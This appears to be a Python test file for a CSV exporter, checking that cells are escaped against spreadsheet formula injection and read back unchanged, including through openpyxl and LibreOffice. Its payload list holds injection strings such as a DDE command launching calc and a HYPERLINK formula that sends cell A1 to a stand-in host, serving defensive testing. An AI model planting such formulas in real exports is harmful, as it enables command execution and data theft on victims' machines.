"""A cell is text for whatever opens the file, and the same text again for whoever reads it back (T13)."""

import csv
import io
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given, strategies as st

from frontdesk.exporters.table_cells import literal, table
from frontdesk.importers.tables import rows as reading

PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1",
    '=HYPERLINK("http://x.example?"&A1,"open")', "=IMPORTXML(CONCAT(\"http://x.example\"),\"//a\")",
    "+44 20 7946 0101", "-2+3+cmd|' /C calc'!A0", "@", "=", "＝1+1", "=1+1\";=1+1", "'=1+1",
)  # fmt: skip


def written(rows: list[list[str]]) -> str:
    return "".join(table(["Name", "Note"], rows))


def test_no_cell_begins_like_a_formula_and_each_is_read_back() -> None:
    assert len(PAYLOADS) == 18
    text = written([[payload, 'Ann, "Lee"\r\nx'] for payload in PAYLOADS])
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))
    assert rows[0] == ["Name", "Note"]
    assert not any(cell.startswith(tuple("=+-@\t\r\n\0＝")) for row in rows for cell in row)
    assert [row[0].removeprefix("'") for row in rows[1:]] == list(PAYLOADS)
    assert {row[1] for row in rows[1:]} == {'Ann, "Lee"\r\nx'}


@given(st.text(st.characters(exclude_categories=("C", "Z")) | st.sampled_from("'=+-@"), max_size=6))
def test_what_was_put_on_is_taken_off(cell: str) -> None:
    assert reading._cell([literal(cell)], 0) == cell or cell.startswith('="')


def test_a_workbook_made_of_it_holds_no_formula(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    for row in csv.reader(io.StringIO(written([[one, ""] for one in PAYLOADS]), newline="")):
        book.active.append([cell.replace("\0", "") for cell in row])
    book.save(tmp_path / "book.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "book.xlsx").active
    assert sum(cell.data_type == "f" for row in sheet.iter_rows() for cell in row) == 0


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not here")
def test_libreoffice_finds_no_formula(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    (tmp_path / "list.csv").write_text(written([[one, ""] for one in PAYLOADS]), encoding="utf-8", newline="")
    convert = ["soffice", "--headless", "--convert-to", "xlsx", "--outdir", str(tmp_path)]
    subprocess.run([*convert, str(tmp_path / "list.csv")], check=True, timeout=120)
    sheet = openpyxl.load_workbook(tmp_path / "list.xlsx").active
    assert sum(cell.data_type == "f" for row in sheet.iter_rows() for cell in row) == 0
